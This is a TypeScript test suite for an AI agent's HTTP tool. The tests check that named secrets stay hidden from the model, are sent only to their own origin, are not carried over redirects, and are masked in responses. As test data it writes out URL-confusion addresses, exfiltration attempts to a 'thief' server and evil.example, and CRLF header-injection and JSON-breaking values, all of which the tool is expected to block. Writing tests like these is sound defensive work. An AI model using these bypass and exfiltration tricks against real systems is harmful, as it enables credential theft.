import { describe, test } from 'vitest'
import { loopback, page, redirectTo } from '../../net/loopback.ts'
import { content, guarded, json, reason, run, toolFor, VALUE } from './world.ts'

describe('a secret', () => {
  const bearer = (url: string, method = 'GET') => ({
    method,
    url,
    headers: { authorization: 'Bearer {{secret:TOKEN}}' },
  })

  test('is told to the model by name and origin only', ({ expect }) => {
    const tool = toolFor({ secrets: { TOKEN: { origin: 'https://api.example.com', value: VALUE } } })
    for (const text of Object.values(tool.description)) {
      expect(text).toContain('TOKEN (https://api.example.com)')
      expect(text).not.toContain(VALUE)
    }
    expect(toolFor({}).description.en).not.toContain('secret')
  })

  test('is filled in where it is named, in the spelling of its place', async ({ expect }) => {
    const plain = 'abc-123'
    const { site, tool } = await guarded(json({}), plain)
    await content(tool, {
      ...bearer(`${site.origin}/bot{{secret:TOKEN}}/x?key={{ secret:TOKEN }}`, 'POST'),
      body: { a: ['{{secret:TOKEN}}'] },
    })
    expect(site.requests).toMatchObject([
      {
        path: `/bot${plain}/x?key=${plain}`,
        headers: { authorization: `Bearer ${plain}` },
        body: `{"a":["${plain}"]}`,
      },
    ])
  })

  test('breaks out of no address, no JSON and no form', async ({ expect }) => {
    const { site, tool } = await guarded(json({}), 'x","admin":true,"y":"/../?a=b&c#d')
    const value = 'x","admin":true,"y":"/../?a=b&c#d'
    const url = `${site.origin}/p/{{secret:TOKEN}}?q={{secret:TOKEN}}`
    await content(tool, { method: 'POST', url, body: '{"k":"{{secret:TOKEN}}"}' })
    const form = { 'content-type': 'application/x-www-form-urlencoded' }
    await content(tool, { method: 'POST', url: site.origin, headers: form, body: 'k={{secret:TOKEN}}&z=1' })
    const [first, second] = site.requests
    expect(JSON.parse(first?.body ?? '')).toEqual({ k: value })
    const sent = new URL(first?.path ?? '', site.origin)
    expect([decodeURIComponent(sent.pathname), sent.searchParams.get('q')]).toEqual([`/p/${value}`, value])
    expect([...new URLSearchParams(second?.body)]).toEqual([
      ['k', value],
      ['z', '1'],
    ])
  })

  test('goes to its own origin only, however another is written', async ({ expect }) => {
    const thief = await loopback(json({}))
    const { site, tool: own } = await guarded(json({}))
    const tool = toolFor({ allow: [site.host, thief.host], secrets: { TOKEN: { origin: site.origin, value: VALUE } } })
    const { port } = new URL(site.origin)
    const addresses = [
      thief.origin,
      `http://localhost:${port}/`,
      `https://127.0.0.1:${port}/`,
      `http://127.0.0.1.nip.io:${port}/`,
      `http://127.0.0.1:${port}@${thief.host}/`,
      `http://127.0.0.1:${port}#@${thief.host}/`.replace('#', '%23'),
      `http://${thief.host}/?u=${site.origin}`,
      `http://127.0.0.1:${port}.evil.example/`,
      `http://{{secret:TOKEN}}.evil.example/`,
      `${thief.origin}\\@${site.host}/`,
    ]
    for (const url of addresses) {
      const said = await reason(tool, bearer(url))
      expect(said, url).toMatch(/goes to http:\/\/127\.0\.0\.1:\d+ only; nothing was sent|^url/)
      expect(said).not.toContain(VALUE)
    }
    for (const args of [
      { method: 'GET', url: `${thief.origin}/?k={{secret:TOKEN}}` },
      { method: 'POST', url: thief.origin, body: '{{secret:TOKEN}}' },
      { method: 'POST', url: thief.origin, body: { deep: [{ k: 'x{{ secret: TOKEN }}' }] } },
    ])
      expect(await reason(tool, args)).toContain('nothing was sent')
    expect(await reason(tool, bearer(`http://user:pass@${site.host}/`))).toContain('user name or password')
    expect(await reason(tool, bearer(`http://{{secret:TOKEN}}@${site.host}/`))).toContain('user name or password')
    expect([...thief.requests, ...site.requests]).toEqual([])
    expect(await content(own, bearer(`HTTP://127.0.0.1:${port}/`))).toContain('Status: 200')
    expect(await content(own, bearer(`http://2130706433:${port}/`))).toContain('Status: 200')
    expect(site.requests).toHaveLength(2)
  })

  test('of an origin in capitals is the same origin', async ({ expect }) => {
    const site = await loopback(json({}))
    const origin = site.origin.replace('http', 'HTTP')
    const tool = toolFor({ allow: [site.host], secrets: { TOKEN: { origin: `${origin}/`, value: 'v-1234' } } })
    await content(tool, bearer(site.origin))
    expect(site.requests[0]?.headers.authorization).toBe('Bearer v-1234')
  })

  test('is carried over no redirect, to another origin or to its own', async ({ expect }) => {
    const thief = await loopback(json({}))
    for (const status of [301, 302, 303, 307, 308]) {
      const { site, tool } = await guarded(redirectTo(`${thief.origin}/steal`, status))
      for (const args of [
        bearer(site.origin),
        bearer(site.origin, 'POST'),
        { method: 'GET', url: `${site.origin}/?k={{secret:TOKEN}}` },
      ])
        expect(await content(tool, args)).toContain('not followed')
      expect(site.requests).toHaveLength(3)
    }
    expect(thief.requests).toEqual([])
  })

  test('that is unknown, has no value or cannot be sent leaves nothing sent', async ({ expect }) => {
    const site = await loopback(json({}))
    const origin = site.origin
    const tool = toolFor({
      allow: [site.host],
      secrets: {
        NONE: { origin },
        EMPTY: { origin, value: '' },
        LINES: { origin, value: 'a\r\nx-evil: 1' },
        OK: { origin, value: 'fine' },
      },
    })
    const said = (name: string) =>
      reason(tool, { method: 'GET', url: origin, headers: { a: `{{secret:${name}}} {{secret:OK}}` } })
    expect(await said('NOBODY')).toContain('no secret called NOBODY')
    expect(await said('NONE')).toContain('no value for the secret NONE')
    expect(await said('EMPTY')).toContain('no value for the secret EMPTY')
    expect(await said('LINES')).toContain('cannot be sent in this place')
    expect(site.requests).toEqual([])
  })

  test('that an answer gives back is masked, in every spelling', async ({ expect }) => {
    const bytes = Buffer.from(VALUE)
    const echoes = [
      VALUE,
      encodeURIComponent(VALUE),
      encodeURIComponent(VALUE).replaceAll(/%../g, (code) => code.toLowerCase()),
      encodeURIComponent(encodeURIComponent(VALUE)),
      JSON.stringify(JSON.stringify({ k: VALUE }))
        .replaceAll('/', '\\/')
        .replaceAll('ä', '\\u00e4'),
      VALUE.replaceAll('ä', '&#228;').replaceAll('/', '&#x2F;'),
      new URLSearchParams({ k: VALUE }).toString(),
      JSON.stringify({ k: VALUE }),
      bytes.toString('base64'),
      bytes.toString('base64url'),
      Buffer.from(`user:${VALUE}`).toString('base64'),
      Buffer.from(`me:${VALUE}!`).toString('base64'),
      Buffer.from(`x:${VALUE}!!`).toString('base64url'),
      bytes.toString('hex'),
      bytes.toString('hex').toUpperCase(),
    ]
    for (const type of ['text/plain', 'application/octet-stream', 'text/html', 'application/json']) {
      for (const echo of echoes) {
        const body =
          type === 'text/html'
            ? `<p>${echo.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}</p>`
            : type === 'application/json'
              ? JSON.stringify({ echo })
              : echo
        const { site, tool } = await guarded(
          page(body, { 'content-type': `${type}; charset=utf-8`, 'x-request-id': encodeURIComponent(VALUE) }),
        )
        const outcome = await run(tool, bearer(site.origin))
        const told = JSON.stringify(outcome)
        for (const piece of [
          VALUE,
          'sk-live',
          '4711_zz',
          bytes.toString('hex').slice(4, 20),
          bytes.toString('base64').slice(4, 16),
        ])
          expect(told.includes(piece), `${type} ${echo}: ${told}`).toBe(false)
        expect(told).toContain('***')
      }
    }
  })

  test('made of marks alone, or of backslashes, is masked in time', async ({ expect }) => {
    for (const value of ['\\'.repeat(200), '.*+?^${}()|[]', 'a\\"b', '密钥😀', '((a+)+)+$']) {
      const { site, tool } = await guarded(
        page(`${'\\'.repeat(50_000)}<${value}>${'a'.repeat(50_000)}`, { 'content-type': 'text/plain' }),
        value,
      )
      const told = await content(tool, { method: 'POST', url: site.origin, body: '{{secret:TOKEN}}' })
      expect(told).toContain('***')
      expect(told).not.toContain(`<${value}>`)
    }
  })

  test('that a redirect gives back is masked in its target', async ({ expect }) => {
    const { site, tool } = await guarded(redirectTo(`https://evil.example/?k=${encodeURIComponent(VALUE)}`))
    const told = await content(tool, bearer(site.origin))
    expect(told).toContain('location: https://evil.example/?k=***')
  })

  test('that a header is cut in is masked before it is cut', async ({ expect }) => {
    const long = `https://evil.example/?k=${'x'.repeat(990 - 24)}${encodeURIComponent(VALUE)}`
    const { site, tool } = await guarded(page('', { link: long }))
    const told = await content(tool, bearer(site.origin))
    expect(told).toContain('xxx***\n')
    expect(told).not.toContain('sk-live')
  })

  test('that a body is cut in is masked up to there', async ({ expect }) => {
    const value = 'sk-live/ä4711&zz'
    const body = `${'x'.repeat(100)} ${value}`
    for (let bodyBytesMax = 105; bodyBytesMax < Buffer.byteLength(body); bodyBytesMax++) {
      const site = await loopback(page(body, { 'content-type': 'text/plain; charset=utf-8' }))
      const secrets = { TOKEN: { origin: site.origin, value } }
      const told = await content(toolFor({ allow: [site.host], secrets, bodyBytesMax }), bearer(site.origin))
      expect(told, `cut at ${bodyBytesMax}`).toContain('xxx ***')
      expect(told).not.toContain('sk-l')
    }
  })

  test('is in no failure', async ({ expect }) => {
    const { site, tool } = await guarded((_request, response) => response.destroy())
    expect(await reason(tool, bearer(`${site.origin}/?k={{secret:TOKEN}}`, 'POST'))).not.toMatch(/sk-live|4711/)
  })
})
